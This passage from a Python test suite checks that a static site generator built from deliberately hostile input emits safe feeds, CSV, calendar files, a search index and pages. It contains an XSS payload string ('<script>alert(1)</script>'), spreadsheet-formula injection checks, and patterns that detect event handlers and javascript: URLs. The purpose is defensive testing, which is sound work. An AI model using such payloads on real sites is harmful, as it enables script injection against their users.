    written = etree.tostring(element, encoding="unicode", with_tail=False)
    return re.sub(r"^<[^>]*>|</[^>]*>$", "", written) if not written.endswith("/>") else ""


def test_the_atom_feed_parses_and_carries_the_texts_as_text(hostile):
    path = hostile.out / "feed.xml"
    tree = etree.parse(str(path), etree.XMLParser(resolve_entities=False, no_network=True))  # strict XML
    atom = "{http://www.w3.org/2005/Atom}"
    feed = feedparser.parse(path.read_bytes())
    assert not feed.bozo, feed.get("bozo_exception")
    events = hostile.records["event"]
    assert len(feed.entries) == N_EVENTS
    for entry in feed.entries:
        event_id = entry.link.rstrip("/").rsplit("/", 1)[-1]
        assert entry.title_detail.type == "text/plain" and entry.summary_detail.type == "text/plain"
        assert entry.title == as_xml_reads(hostile.value(events[event_id]["title"]))
    site = hostile.records["site"]
    assert feed.feed.title == as_xml_reads(hostile.value(site["title"]))
    assert feed.feed.subtitle == as_xml_reads(hostile.value(site["description"]))
    texts = 0
    text_constructs = {atom + name for name in ("title", "subtitle", "summary", "content", "rights")}
    for element in tree.iter():
        if element.tag in text_constructs and element.get("type") not in (None, "text"):
            raise AssertionError(f"{element.tag} is typed {element.get('type')}: readers would render it as HTML")
        for name in ("href", "src", "uri"):
            if element.get(name) is not None:
                assert urlsplit(element.get(name)).scheme in ("http", "https"), element.get(name)
        if element.tag in (atom + "title", atom + "summary", atom + "subtitle", atom + "name", atom + "content"):
            assert len(element) == 0  # text only, never child elements
            markup = _inner_markup(element)
            if markup.strip():
                fragment = lxml.html.fragment_fromstring(markup, create_parent="div")
                assert len(fragment) == 0 and active_content(fragment) == [], markup  # as HTML: only text
                texts += 1
    assert texts >= 2 * N_EVENTS + 3
    etree.parse(str(hostile.out / "sitemap.xml"))


# --- Open data -------------------------------------------------------------------------------------

def test_events_json_keeps_every_text_as_data(hostile):
    from jsonschema import Draft202012Validator
    data = json.loads((hostile.out / "data/events.json").read_text(encoding="utf-8"))
    schema = json.loads((hostile.out / "data/events.schema.json").read_text(encoding="utf-8"))
    assert list(Draft202012Validator(schema).iter_errors(data)) == []
    records, value = hostile.records, hostile.value
    assert (data["title"], data["description"]) == (value(records["site"]["title"]), value(records["site"]["description"]))
    assert len(data["events"]) == N_EVENTS
    for event in data["events"]:
        written = records["event"][event["id"]]
        assert event["title"] == value(written["title"])
        assert event["summary"] == value(written["summary"])
        place = records["place"][written["place"]]
        assert (event["place"]["name"], event["place"]["province"]) == (value(place["name"]), value(place["province"]))
        assert [a["name"] for a in event["actors"]] == [value(records["actor"][a]["name"]) for a in written["actors"]]
        assert [t["name"] for t in event["topics"]] == [value(records["topic"][t]["name"]) for t in written["topics"]]
        cited = [(c, None) if isinstance(c, str) else (c["source"], value(c["note"])) for c in written["sources"]]
        assert [(s["title"], s["publisher"], s["url"], s["note"]) for s in event["sources"]] == [
            (value(records["source"][s]["title"]), value(records["source"][s]["publisher"]),
             records["source"][s]["url"], note) for s, note in cited]


SPREADSHEET_FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")  # as spreadsheet programs read a cell
NUMBER = re.compile(r"-?\d+(\.\d+)?")


def test_no_csv_cell_can_run_as_a_formula(hostile):
    text = (hostile.out / "data/events.csv").read_text(encoding="utf-8")
    rows = list(csv.reader(io.StringIO(text, newline="")))
    header, rows = rows[0], rows[1:]
    assert len(rows) == N_EVENTS and all(len(row) == len(header) for row in rows)
    neutralised = 0
    for row in rows:
        for cell in row:
            risky = cell[:1] in SPREADSHEET_FORMULA_STARTS or cell.lstrip()[:1] in SPREADSHEET_FORMULA_STARTS
            assert not risky or NUMBER.fullmatch(cell), (header[row.index(cell)], cell)
            neutralised += cell.startswith("'") and cell[1:].lstrip()[:1] in SPREADSHEET_FORMULA_STARTS
    assert neutralised >= 5  # the formula vectors did land in cells, and were defused
    assert set(SPREADSHEET_FORMULA_STARTS) <= set(FORMULA_STARTS)
    by_id = {row[header.index("event_id")]: dict(zip(header, row)) for row in rows}
    for event_id, written in hostile.records["event"].items():
        row = by_id[event_id]
        assert row["title"] == spreadsheet_safe(hostile.value(written["title"]))
        place = hostile.records["place"][written["place"]]
        assert (row["place"], row["admin1"]) == (spreadsheet_safe(hostile.value(place["name"])),
                                                 spreadsheet_safe(hostile.value(place["province"])))


ICS_NAMES = {"BEGIN", "END", "PRODID", "VERSION", "CALSCALE", "METHOD", "NAME", "X-WR-CALNAME", "X-WR-CALDESC",
             "URL", "SUMMARY", "DTSTART", "DTEND", "DTSTAMP", "UID", "CATEGORIES", "DESCRIPTION", "GEO", "LOCATION",
             "TRANSP"}
ICS_LINE = re.compile(r"([A-Z][A-Z0-9-]*)((?:;[A-Z0-9-]+=[^;:]*)*):(.*)", re.S)


def test_no_text_breaks_out_of_its_calendar_property(hostile):
    data = (hostile.out / "data/events.ics").read_bytes()
    physical = data.split(b"\r\n")
    assert physical[-1] == b""
    physical = physical[:-1]
    for line in physical:
        assert b"\r" not in line and b"\n" not in line and len(line) <= 75, line
        line.decode("utf-8")  # folded between characters, never inside one
    logical: list[str] = []
    for line in physical:
        text = line.decode("utf-8")
        if text.startswith(" "):
            logical[-1] += text[1:]
        else:
            logical.append(text)
    names = []
    for line in logical:
        match = ICS_LINE.fullmatch(line)
        assert match and match.group(1) in ICS_NAMES, line
        names.append(match.group(1))
        if match.group(1) in ("BEGIN", "END"):
            assert match.group(3) in ("VCALENDAR", "VEVENT"), line
    structure = [line for line in logical if line.startswith(("BEGIN:", "END:"))]
    assert structure == ["BEGIN:VCALENDAR", *["BEGIN:VEVENT", "END:VEVENT"] * N_EVENTS, "END:VCALENDAR"]
    assert names.count("SUMMARY") == names.count("DESCRIPTION") == names.count("UID") == N_EVENTS
    calendar = icalendar.Calendar.from_ical(data)
    items = {str(item["UID"]).split("@")[0]: item for item in calendar.walk("VEVENT")}
    assert len(items) == N_EVENTS
    for event_id, written in hostile.records["event"].items():
        assert str(items[event_id]["SUMMARY"]) == hostile.value(written["title"]).replace("\r", "\n")


# --- The search index and the search page's script --------------------------------------------------

def read_fragments(out: Path) -> dict[str, dict]:
    """Pagefind's per-page records: gzip, then the 12 bytes "pagefind_dcd", then JSON."""
    fragments = {}
    for path in sorted((out / "pagefind/fragment").glob("*.pf_fragment")):
        raw = gzip.decompress(path.read_bytes())
        assert raw.startswith(b"pagefind_dcd"), path
        record = json.loads(raw[len(b"pagefind_dcd"):])
        fragments[record["url"]] = record
    return fragments


def test_the_search_index_holds_the_texts_as_plain_text(hostile):
    fragments = read_fragments(hostile.out)
    squeeze = lambda text: " ".join(as_parsed(text).split())  # noqa: E731 - Pagefind collapses whitespace
    checked = 0
    for kind, folder, key in (("event", "events", "title"), ("actor", "actors", "name"), ("topic", "topics", "name"),
                              ("place", "places", "name"), ("page", "", "title")):
        for record_id, data in hostile.records[kind].items():
            front = data[0] if kind == "page" else data
            fragment = fragments[f"/{folder}/{record_id}/".replace("//", "/")]
            expected = squeeze(hostile.value(front[key]))
            assert squeeze(fragment["meta"]["title"]) == expected, (record_id, fragment["meta"]["title"])
            assert expected in squeeze(fragment["content"]), record_id
            checked += 1
    assert checked == N_EVENTS + N_ACTORS + N_TOPICS + N_PLACES + N_PAGES
    # plain text, not markup: the payloads' tags are there as characters, nothing is entity-encoded
    contents = " ".join(f["content"] + " " + f["meta"]["title"] for f in fragments.values())
    assert "<script>alert(1)</script>" in contents and "&lt;script" not in contents.replace(
        "&lt;script&gt;alert(1)&lt;/script&gt;", "")


def test_the_search_page_inserts_results_as_text_only():
    """search.js builds results from text nodes; the browser test below runs it on hostile results."""
    script = (build_module.STATIC_DIR / "search.js").read_text(encoding="utf-8")
    assert not re.search(r"innerHTML|outerHTML|insertAdjacentHTML|document\.write|\beval\(|new Function", script)
    assert "link.textContent = result.meta.title" in script
    # the excerpt is parsed by DOMParser (an inert document: no scripts, no image loads), then copied as text
    assert re.search(r"createTextNode\(node\.textContent\)", script) and "mark.textContent = node.textContent" in script


# --- In a real browser -----------------------------------------------------------------------------

MARK_DIALOGS = """
(() => {
  for (const name of ["alert", "confirm", "prompt", "print"]) {
    const original = window[name];
    window[name] = function (...args) {
      window.__xss = (window.__xss || 0) + 1;
      return original.apply(this, args);
    };
  }
})();
"""
# After loading, every element gets the events its would-be handlers wait for (hover, focus, a
# failed load, a toggle, an SVG animation's start): an on... attribute that slipped through runs then.
PROVOKE = """
() => {
  const kinds = ["mouseover", "mouseenter", "focus", "focusin", "error", "load", "toggle", "begin", "animationstart"];
  for (const element of document.querySelectorAll("*")) {
    for (const kind of kinds) element.dispatchEvent(new Event(kind));
  }
}
"""
# What the live document holds that could run: handlers, script addresses, foreign scripts and frames.
LIVE_DOM = """
(own) => {
  const found = [];
  for (const element of document.querySelectorAll("*")) {
    for (const attribute of element.attributes) {
      const name = attribute.name.toLowerCase();
      const squeezed = attribute.value.replace(/[\\u0000-\\u0020\\u007f\\ufeff]/g, "").toLowerCase();
      if (name.startsWith("on")) found.push(`${element.localName} ${name}`);
      if (/(^|:)(href|src|action|formaction|data)$/.test(name) && /^(javascript|vbscript|data):/.test(squeezed))
        found.push(`${element.localName} ${name}=${attribute.value}`);
    }
  }
  for (const script of document.scripts) {
    if (script.type !== "application/ld+json" && !(script.src && script.src.startsWith(own))) found.push("script " + script.outerHTML);
  }
  for (const element of document.querySelectorAll("iframe, frame, object, embed, base, style, img, meta[http-equiv=refresh]"))
    found.push(element.outerHTML);
  return found;
}
"""


@pytest.fixture(scope="module")
def served_hostile(hostile):
    server, address = _serve(hostile.out)
    yield address
    server.shutdown()
    server.server_close()


def normalised_title(text: str) -> str:
    """A title as compared with Chromium's document.title: without whitespace and control characters
    (which Chromium collapses, turns into spaces or drops, each its own way)."""
    return re.sub(r"[\s\x00-\x1f\x7f]+", "", text)


@pytest.mark.browser
@pytest.mark.parametrize("csp", ["enforced", "bypassed"])
def test_no_payload_runs_in_a_real_browser(browser, hostile, served_hostile, csp):
    """Every page of the hostile site, and search results for a word of its hostile titles, in
    Chromium: no dialog, no marker, no foreign request, an unchanged title and no console error.
    With the Content-Security-Policy bypassed, a payload that survived sanitising would run: so
    this proves the escaping, not only the policy."""
    require_browser()
    context = browser.new_context(bypass_csp=csp == "bypassed")
    dialogs, errors, foreign, marked, live, titles = [], [], [], [], [], []
    try:
        context.add_init_script(MARK_DIALOGS)
        own = served_hostile.rstrip("/")

        def route(request_route):
            if request_route.request.url.startswith(own + "/"):
                request_route.continue_()
            else:
                foreign.append(request_route.request.url)
                request_route.abort()

        context.route("**/*", route)
        page = context.new_page()
        page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
        page.on("console", lambda message: errors.append(message.text) if message.type == "error" else None)
        page.on("pageerror", lambda error: errors.append(str(error)))
        pages = hostile.html_files()
        for path in pages:
            address = served_hostile + hostile.address(path)
            response = page.goto(address, wait_until="load")
            assert response.ok, address  # (the test server sends 404.html itself with 200)
            page.evaluate(PROVOKE)
            if page.evaluate("window.__xss") is not None:
                marked.append(address)
            live += [f"{address}: {item}" for item in page.evaluate(LIVE_DOM, served_hostile + "static/")]
            expected = normalised_title(parse_html(path).xpath("string(//title)"))
            if normalised_title(page.title()) != expected:
                titles.append((address, page.title(), expected))

        page.goto(served_hostile + "search/?q=alert")
        results = page.locator(".search-results li")
        page.locator(".search-status").filter(has_text=re.compile(r"\d+ results? for")).wait_for(timeout=15_000)
        result_count = results.count()
        shown = page.locator(".search-results h2 a").all_text_contents()
        excerpts = page.locator(".search-results p:not(.search-kind)").all_text_contents()
        other_elements = page.locator(".search-results *:not(li, h2, a, p, mark)").count()
        page.evaluate(PROVOKE)
        if page.evaluate("window.__xss") is not None:
            marked.append("search")
        live += page.evaluate(LIVE_DOM, served_hostile + "static/")
    finally:
        context.close()
    assert dialogs == [] and marked == []
    assert live == []
    assert foreign == []
    assert titles == []
    assert errors == []
    # The results were hostile, and shown as text: each title exactly as written, excerpts with the
    # payloads' tags as characters (Pagefind escapes them; search.js copies text nodes only).
    assert result_count == 20 and other_elements == 0
    written = {normalised_title(as_parsed(hostile.value(r["title"]))) for r in hostile.records["event"].values()}
    written |= {normalised_title(as_parsed(hostile.value(r[0]["title"]))) for r in hostile.records["page"].values()}
    for kind in ("actor", "topic", "place"):
        written |= {normalised_title(as_parsed(hostile.value(r["name"]))) for r in hostile.records[kind].values()}
    written.add("Figures")  # the page of every figure, whose hostile titles and notes match too
    assert {normalised_title(text) for text in shown} <= written
    assert any("<script>alert(1)</script>" in text for text in excerpts)
